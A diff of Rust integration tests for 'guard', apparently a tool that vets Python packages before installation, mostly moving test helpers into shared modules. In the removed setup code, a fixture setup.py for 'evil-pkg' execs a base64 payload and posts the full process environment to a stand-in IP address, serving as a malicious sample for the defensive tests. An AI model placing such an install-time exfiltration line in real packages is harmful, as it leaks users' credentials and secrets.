@@ -13,111 +13,11 @@
 mod common;
 
 use std::path::PathBuf;
-use std::process::{Command, Output, Stdio};
+use std::process::{Command, Stdio};
 
-use common::{sdist, sha, wheel, Fault, Index};
-
-struct Env {
-    dir: tempfile::TempDir,
-    index: Index,
-    python: PathBuf,
-    canary: PathBuf,
-}
-
-impl Env {
-    fn project(&self) -> PathBuf {
-        self.dir.path().join("project")
-    }
-
-    fn cache(&self) -> PathBuf {
-        self.dir.path().join("cache")
-    }
-
-    fn audit(&self) -> PathBuf {
-        self.dir.path().join("audit.jsonl")
-    }
-
-    /// The `guard install` command line (without the requirements).
-    fn command(&self, extra: &[&str]) -> Command {
-        let mut cmd = common::isolated_install(&self.index.url(), self.dir.path());
-        cmd.current_dir(self.project())
-            .arg("--python")
-            .arg(&self.python)
-            .arg("--cache-dir")
-            .arg(self.cache())
-            .args(["--timeout", "5"])
-            .args(extra);
-        cmd
-    }
-
-    fn guard(&self, args: &[&str]) -> Output {
-        self.command(args).stdin(Stdio::null()).output().unwrap()
-    }
-
-    /// Runs guard under a pseudo-terminal (`script`), typing `answer`.
-    fn guard_on_tty(&self, args: &[&str], answer: &str) -> (Option<i32>, String) {
-        let cmd = self.command(args);
-        let mut line = String::new();
-        line.push_str(&shell_quote(cmd.get_program().to_str().unwrap()));
-        for a in cmd.get_args() {
-            line.push(' ');
-            line.push_str(&shell_quote(a.to_str().unwrap()));
-        }
-        line.push_str("; echo \"guard-exit=$?\"");
-        let mut script = Command::new("script");
-        script.current_dir(self.project()).args(["-qec", &line, "/dev/null"]);
-        for (k, v) in cmd.get_envs() {
-            match v {
-                Some(v) => script.env(k, v),
-                None => script.env_remove(k),
-            };
-        }
-        let mut child = script
-            .stdin(Stdio::piped())
-            .stdout(Stdio::piped())
-            .stderr(Stdio::piped())
-            .spawn()
-            .unwrap();
-        {
-            use std::io::Write;
-            let mut stdin = child.stdin.take().unwrap();
-            // Type the answer once the prompt is up; keep stdin open until guard exits.
-            let answer = answer.to_string();
-            std::thread::spawn(move || {
-                std::thread::sleep(std::time::Duration::from_secs(4));
-                let _ = stdin.write_all(answer.as_bytes());
-                let _ = stdin.flush();
-                std::thread::sleep(std::time::Duration::from_secs(60));
-            });
-        }
-        let out = child.wait_with_output().unwrap();
-        let text = String::from_utf8_lossy(&out.stdout).into_owned();
-        let code = text.rsplit("guard-exit=").next().and_then(|s| s.trim().parse().ok());
-        (code, text)
-    }
-
-    fn imports(&self, module: &str) -> bool {
-        Command::new(&self.python)
-            .args(["-c", &format!("import {module}")])
-            .current_dir(self.dir.path())
-            .status()
-            .unwrap()
-            .success()
-    }
-}
-
-fn shell_quote(s: &str) -> String {
-    format!("'{}'", s.replace('\'', r"'\''"))
-}
-
-fn text(o: &Output) -> String {
-    format!(
-        "exit {:?}\n--- stdout\n{}\n--- stderr\n{}",
-        o.status.code(),
-        String::from_utf8_lossy(&o.stdout),
-        String::from_utf8_lossy(&o.stderr)
-    )
-}
+use common::backend::{backend_sdist, local_project};
+use common::env::{text, venv, Env, Pip};
+use common::{sdist, sha, wheel, Fault};
 
 /// The setuptools wheel bundled with the Python that runs the tests.
 fn bundled_setuptools() -> PathBuf {
@@ -134,81 +34,18 @@ fn bundled_setuptools() -> PathBuf {
         .expect("ensurepip bundles a setuptools wheel")
 }
 
-const BACKEND: &str = r#"import base64
-import hashlib
-import os
-import zipfile
-
-import setuptools  # the build environment must provide it (offline, from guard's files)
-
-NAME = "benign_sdist"
-DIST = NAME + "-1.0"
-
-
-def get_requires_for_build_wheel(config_settings=None):
-    return []
-
-
-def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
-    if os.environ.get("GUARD_TEST_BUILD_LOG"):
-        with open(os.environ["GUARD_TEST_BUILD_LOG"], "a") as log:
-            log.write("benign-sdist built\n")
-    filename = DIST + "-py3-none-any.whl"
-    files = {
-        NAME + "/__init__.py": "VALUE = 2\nSETUPTOOLS = %r\n" % setuptools.__version__,
-        DIST + ".dist-info/METADATA": "Metadata-Version: 2.1\nName: benign-sdist\nVersion: 1.0\n",
-        DIST + ".dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: fixture\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
-    }
-    lines = []
-    with zipfile.ZipFile(os.path.join(wheel_directory, filename), "w") as zf:
-        for path, content in files.items():
-            data = content.encode()
-            zf.writestr(path, data)
-            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
-            lines.append("%s,sha256=%s,%d" % (path, digest, len(data)))
-        lines.append(DIST + ".dist-info/RECORD,,")
-        zf.writestr(DIST + ".dist-info/RECORD", "\n".join(lines) + "\n")
-    return filename
-"#;
-
 fn setup() -> Env {
-    let dir = tempfile::tempdir().unwrap();
-    let venv = dir.path().join("venv");
-    let ok = Command::new("python3")
-        .args(["-m", "venv"])
-        .arg(&venv)
-        .status()
-        .unwrap()
-        .success();
-    assert!(ok, "python3 -m venv failed");
-    let python = venv.join("bin").join("python");
-    let canary = dir.path().join("CANARY");
-    let index = Index::start();
-
+    let env = Env::new(Pip::Real);
+    let index = &env.index;
     index.add("benign-wheel", wheel("benign-wheel", "1.0", &[]), Fault::None);
+    // Built by the shared in-tree backend, which imports setuptools: pip must
+    // install the setuptools guard inspected, offline, into the build environment.
     index.add(
         "benign-sdist",
-        sdist(
-            "benign-sdist",
-            "1.0",
-            &[
-                (
-                    "pyproject.toml",
-                    "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"backend\"\nbackend-path = [\"_backend\"]\n\n[project]\nname = \"benign-sdist\"\nversion = \"1.0\"\ndependencies = []\n".into(),
-                ),
-                ("_backend/backend.py", BACKEND.into()),
-                (
-                    "PKG-INFO",
-                    "Metadata-Version: 2.2\nName: benign-sdist\nVersion: 1.0\n".into(),
-                ),
-            ],
-        ),
+        backend_sdist("benign-sdist", "1.0", &["setuptools"], "VALUE = 2\n"),
         Fault::None,
     );
-    let setup_py = format!(
-        "import os, base64, urllib.request\nopen({:?}, 'w').write('setup.py ran')\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\nurllib.request.urlopen('http://198.51.100.7/c', data=repr(dict(os.environ)).encode())\nfrom setuptools import setup\nsetup(name='evil-pkg', version='1.0')\n",
-        canary.display().to_string()
-    );
+    let setup_py = env.canary_setup_py("evil-pkg");
     index.add(
         "evil-pkg",
         sdist(
@@ -241,50 +78,23 @@ fn setup() -> Env {
         Fault::None,
     );
 
-    let project = dir.path().join("project");
-    std::fs::create_dir(&project).unwrap();
     std::fs::write(
-        project.join("guard.toml"),
+        env.project().join("guard.toml"),
         format!(
             "[rules]\nseverity = {{ \"install-network\" = \"high\" }}\n\n[[allow]]\nname = \"setuptools\"\nsha256 = \"{st_sha}\"\nreason = \"the build backend bundled with CPython\"\n"
         ),
     )
     .unwrap();
-    Env {
-        dir,
-        index,
-        python,
-        canary,
-    }
+    env
 }
 
 fn wheel_with(name: &str, body: &str) -> (String, Vec<u8>) {
-    use std::io::Write;
-    let dist = name.replace('-', "_");
-    let filename = format!("{dist}-1.0-py3-none-any.whl");
-    let mut buf = std::io::Cursor::new(Vec::new());
-    {
-        let mut zip = zip::ZipWriter::new(&mut buf);
-        let opts = zip::write::SimpleFileOptions::default();
-        for (path, data) in [
-            (format!("{dist}/__init__.py"), format!("import urllib.request\n{body}")),
-            (
-                format!("{dist}-1.0.dist-info/METADATA"),
-                // Complete metadata, so that only the code decides the verdict.
-                format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\nSummary: fixture\nAuthor: Test\n"),
-            ),
-            (
-                format!("{dist}-1.0.dist-info/WHEEL"),
-                "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n".into(),
-            ),
-            (format!("{dist}-1.0.dist-info/RECORD"), String::new()),
-        ] {
-            zip.start_file(path, opts).unwrap();
-            zip.write_all(data.as_bytes()).unwrap();
-        }
-        zip.finish().unwrap();
-    }
-    (filename, buf.into_inner())
+    let p = common::artifacts::Package::new(name, "1.0");
+    let init = format!("{}/__init__.py", p.dist());
+    // Complete metadata, so that only the code decides the verdict.
+    p.headers("Summary: fixture\nAuthor: Test\n")
+        .file(&init, format!("import urllib.request\n{body}"))
+        .wheel()
 }
 
 fn installed(env: &Env, dist: &str) -> bool {
@@ -426,111 +236,6 @@ fn pip_environment_cannot_widen_the_handoff() {
 // ---------------------------------------------------------------------------
 // Issue 12: local projects, editable installs, files, URLs, git, uv.
 
-/// A PEP 517 backend for the user's own test projects: builds a wheel (or a
-/// PEP 660 editable wheel) from `pyproject.toml`'s `[project]` and `src/`.
-/// It imports setuptools, so the build environment must hold the setuptools
-/// guard inspected; each build appends a line to `$GUARD_TEST_BUILD_LOG`.
-const LOCAL_BACKEND: &str = r#"import base64, hashlib, os, tomllib, zipfile
-
-import setuptools  # provided offline, from guard's inspected files
-
-
-def _project():
-    with open("pyproject.toml", "rb") as f:
-        return tomllib.load(f)["project"]
-
-
-def _log(what):
-    path = os.environ.get("GUARD_TEST_BUILD_LOG")
-    if path:
-        with open(path, "a") as f:
-            f.write(what + "\n")
-
-
-def _build(wheel_directory, editable):
-    p = _project()
-    dist = p["name"].replace("-", "_")
-    version = p["version"]
-    _log("%s %s %s" % (p["name"], version, "editable" if editable else "wheel"))
-    meta = _metadata(p)
-    info = "%s-%s.dist-info" % (dist, version)
-    files = {info + "/METADATA": meta, info + "/WHEEL": "Wheel-Version: 1.0\nGenerator: fixture\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
-    if editable:
-        files["__editable__.%s.pth" % dist] = os.path.abspath("src") + "\n"
-    else:
-        for root, _, names in os.walk("src"):
-            for n in names:
-                full = os.path.join(root, n)
-                files[os.path.relpath(full, "src")] = open(full).read()
-    filename = "%s-%s-py3-none-any.whl" % (dist, version)
-    lines = []
-    with zipfile.ZipFile(os.path.join(wheel_directory, filename), "w") as zf:
-        for path, content in files.items():
-            data = content.encode()
-            zf.writestr(path, data)
-            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
-            lines.append("%s,sha256=%s,%d" % (path, digest, len(data)))
-        lines.append(info + "/RECORD,,")
-        zf.writestr(info + "/RECORD", "\n".join(lines) + "\n")
-    return filename
-
-
-def _metadata(p):
-    deps = p.get("dependencies", [])
-    if "dependencies" in p.get("dynamic", []):
-        deps = [l.strip() for l in open("requirements.txt") if l.strip()]
-    meta = "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (p["name"], p["version"])
-    return meta + "".join("Requires-Dist: %s\n" % d for d in deps)
-
-
-def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
-    p = _project()
-    _log("%s metadata" % p["name"])
-    info = "%s-%s.dist-info" % (p["name"].replace("-", "_"), p["version"])
-    os.makedirs(os.path.join(metadata_directory, info))
-    with open(os.path.join(metadata_directory, info, "METADATA"), "w") as f:
-        f.write(_metadata(p))
-    return info
-
-
-def get_requires_for_build_wheel(config_settings=None):
-    return []
-
-
-def get_requires_for_build_editable(config_settings=None):
-    return []
-
-
-def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
-    return _build(wheel_directory, False)
-
-
-def build_editable(wheel_directory, config_settings=None, metadata_directory=None):
-    return _build(wheel_directory, True)
-
-
-def build_sdist(sdist_directory, config_settings=None):
-    raise NotImplementedError
-"#;
-
-/// Writes a local project `dir` named `name` with these dependencies.
-fn local_project(dir: &std::path::Path, name: &str, version: &str, deps: &[&str]) {
-    let module = name.replace('-', "_");
-    std::fs::create_dir_all(dir.join("src").join(&module)).unwrap();
-    std::fs::create_dir_all(dir.join("_backend")).unwrap();
-    std::fs::write(dir.join("_backend/backend.py"), LOCAL_BACKEND).unwrap();
-    let deps: Vec<String> = deps.iter().map(|d| format!("{d:?}")).collect();
-    std::fs::write(
-        dir.join("pyproject.toml"),
-        format!(
-            "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"backend\"\nbackend-path = [\"_backend\"]\n\n[project]\nname = \"{name}\"\nversion = \"{version}\"\ndependencies = [{}]\n",
-            deps.join(", ")
-        ),
-    )
-    .unwrap();
-    std::fs::write(dir.join("src").join(&module).join("__init__.py"), "VALUE = 'v1'\n").unwrap();
-}
-
 fn pip_show(env: &Env, dist: &str) -> String {
     let out = Command::new(&env.python)
         .args(["-m", "pip", "show", dist])
@@ -540,16 +245,9 @@ fn pip_show(env: &Env, dist: &str) -> String {
     String::from_utf8_lossy(&out.stdout).into_owned()
 }
 
-/// The uv that `.ci/run` installs (GUARD_UV, else `uv` on PATH).
+/// The uv that `.ci/run` installs, found as guard finds it.
 fn uv() -> PathBuf {
-    if let Some(p) = std::env::var_os("GUARD_UV") {
-        return PathBuf::from(p);
-    }
-    let path = std::env::var_os("PATH").unwrap_or_default();
-    std::env::split_paths(&path)
-        .map(|d| d.join("uv"))
-        .find(|p| p.is_file())
-        .expect("uv is needed for these tests: `pip install uv` (.ci/run does)")
+    guard::handoff::find_uv().expect("uv is needed for these tests: `pip install uv` (.ci/run does)")
 }
 
 #[test]
@@ -630,7 +328,7 @@ fn dynamic_dependencies_come_from_the_metadata_hook_with_inspected_backend() {
     );
     assert!(installed(&env, "dyn-proj"));
     let builds = std::fs::read_to_string(&log).unwrap();
-    assert!(builds.contains("dyn-proj metadata"), "{builds}");
+    assert!(builds.contains("metadata dyn-proj"), "{builds}");
     // A malicious dependency named only by the hook is refused like any other.
     let env = setup();
     local_project(&env.project().join("dyn"), "dyn-proj", "0.3", &[]);
@@ -835,16 +533,7 @@ fn uv_installer_and_built_wheels_are_kept() {
     );
     // A second environment sharing the cache: the approved sdist's wheel is reused, not rebuilt.
     let env2 = Env {
-        python: {
-            let venv = env.dir.path().join("venv2");
-            assert!(Command::new("python3")
-                .args(["-m", "venv"])
-                .arg(&venv)
-                .status()
-                .unwrap()
-                .success());
-            venv.join("bin/python")
-        },
+        python: venv(&env.dir.path().join("venv2")),
         ..env
     };
     let out = run(&env2, &["benign-sdist"]);
